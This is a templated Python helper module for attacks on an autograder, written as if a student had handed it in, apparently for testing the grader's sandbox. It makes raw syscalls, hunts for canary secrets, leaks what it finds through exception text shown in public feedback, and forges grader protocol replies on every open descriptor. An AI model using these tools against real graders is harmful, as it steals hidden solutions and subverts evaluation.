"""Tools that the attacks share; handed in beside toy.py, as a student could."""

import ctypes
import errno
import os
import re
import struct

ROOT = "@ROOT@"  # holds assignments/ and solutions/
SECRET = "@SECRET@"  # a file with a secret
RESULTS = "@RESULTS@"  # what the instructor wrote
ENGINE = "@ENGINE@"  # holds autograder/ and student_kit/
SITE = "@SITE@"  # site-packages of the grader
GRADER = "@GRADER@"  # its process id
PORT = "@PORT@"  # somebody listens there, on 127.0.0.1
ABSTRACT = "@ABSTRACT@"  # and there
TOKEN = "@TOKEN@"  # marks what is left behind

CANARY = re.compile(rb"CANARY-[0-9a-f]{16}")
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.argtypes = [ctypes.c_long] * 7
LIBC.syscall.restype = ctypes.c_long


class Loot(Exception):
    """What was found: public feedback quotes it."""


def attempt(name, action):
    """Try one thing and return a line about it."""
    try:
        value = action()
    except BaseException as error:
        number = getattr(error, "errno", None)
        reason = errno.errorcode.get(number, str(error)[:60])
        return f"{name}: refused ({type(error).__name__} {reason})"
    return f"{name}: GOT {value!r:.200}"


def show(**actions):
    """Try several things and let the public test's feedback tell how they went."""
    lines = [attempt(name, action) for name, action in actions.items()]
    lines.sort(key=lambda line: ": GOT " not in line)  # first what succeeded
    raise Loot("\n".join(lines))


def syscall(number, *arguments):
    """Make a system call by its number."""
    result = LIBC.syscall(number, *arguments, *(0,) * (6 - len(arguments)))
    if result < 0:
        raise OSError(ctypes.get_errno(), "syscall")
    return result


def canaries(data):
    """Return the canaries in some bytes; LookupError if there are none."""
    found = sorted(set(CANARY.findall(data)))
    if not found:
        raise LookupError("no canary")
    return found


def unless(value, nothing):
    """Return what was found; LookupError if that is nothing."""
    if value == nothing:
        raise LookupError("nothing")
    return value


def send(data):
    """Write raw bytes to every descriptor that is not one of the standard three."""
    for fd in range(3, 64):
        try:
            while data:
                data = data[os.write(fd, data) :]
        except OSError:
            continue


def frame(kind, seq, tree, body=b"", *, claim=None):
    """Return a frame of the grader's protocol."""
    sizes = (len(tree), len(body)) if claim is None else claim
    return struct.pack(">4sBIIQ", b"AGW1", kind, seq, *sizes) + tree + body


REQUEST, ASK, ANSWER, REPLY, HELLO = 2, 3, 4, 5, 6


def spelled(value, raw=b""):
    """Return a value as the worker itself would spell it, and the text "RAW" as these bytes."""
    from student_kit.wire import encode  # it is loaded here, so it is there for the taking

    return encode(value).tree.replace(b'"RAW"', raw)


EMPTY = spelled({})


def reply_to_first(tree, body=b""):
    """Answer the first request of this worker by a forged reply, and wait for the end."""
    import time

    send(frame(REPLY, 1, tree, body))
    time.sleep(60)
